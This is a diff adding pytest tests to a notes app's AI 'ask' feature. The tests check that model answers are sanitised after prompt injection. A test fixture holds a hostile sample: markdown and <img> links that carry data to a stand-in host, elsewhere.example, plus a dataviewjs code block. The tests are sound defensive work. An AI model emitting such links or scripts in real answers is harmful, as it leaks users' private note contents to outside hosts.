@@ -9,6 +9,7 @@ import pytest
 
 from notewell.base.errors import CancelledError, ConfigError, NotFoundError, ProviderError
 from notewell.features.ask.requests import AskFound, AskNotice, AskRequest, AskStep, AskText
+from notewell.features.ask.service import Conversations, as_note
 from notewell.features.ask.tools import GIVEN_UP
 from tests.features.ask.conftest import Asking
 from tests.features.ask.scripted import Says, Script
@@ -354,3 +355,48 @@ def test_cancelling_ends_a_waiting_answer(ask: Asking, script: Script) -> None:
             list(events)
     finally:
         hold.set()
+
+
+AWAY = "https://elsewhere.example/?d=the-light-of-the-sun"
+HOSTILE = Says(
+    f"By the sun [1]. ![a map]({AWAY}) <img src={AWAY}>\n\n```dataviewjs\ndv.io.load()\n```\n\n"
+    "![[City]] ![[Bees]]"
+)
+HARMLESS = (
+    f"By the sun [1]. a map <{AWAY}> &lt;img src={AWAY}>\n\n```\ndv.io.load()\n```\n\n"
+    "[[City]] ![[Bees]]"
+)
+
+
+@BOTH
+def test_what_a_model_was_talked_into_is_harmless_in_every_event_and_in_the_conversation(
+    ask: Asking, script: Script, provider: str
+) -> None:
+    reply = ask(script(HOSTILE), QUESTION, provider=provider)
+
+    assert reply.answer == HARMLESS
+    assert shown(ask) == HARMLESS.replace("![[Bees]]", "[[Bees]]")  # not cited before the end
+    (kept,) = Conversations(ask.folder).read(reply.conversation)
+    assert kept.answer == HARMLESS
+    assert HARMLESS in as_note([kept])
+
+
+def test_a_stopped_answer_is_harmless(ask: Asking, script: Script) -> None:
+    model = script(Says(HOSTILE.text, drop=True))
+    reply = ask(model, QUESTION)
+    assert reply.partial
+    assert "![a map" not in shown(ask) + reply.answer
+
+
+def test_answers_that_an_earlier_version_kept_are_harmless_when_they_are_read(
+    ask: Asking, script: Script
+) -> None:
+    reply = ask(script(BY_THE_SUN), QUESTION)
+    talks = Conversations(ask.folder)
+    (file,) = (ask.folder / "conversations").glob("*.json")
+    raw = file.read_text(encoding="utf-8").replace(
+        BY_THE_SUN.text, f"{BY_THE_SUN.text} ![x]({AWAY})"
+    )
+    file.write_text(raw, encoding="utf-8")
+    (kept,) = talks.read(reply.conversation)
+    assert kept.answer == f"{BY_THE_SUN.text} x <{AWAY}>"
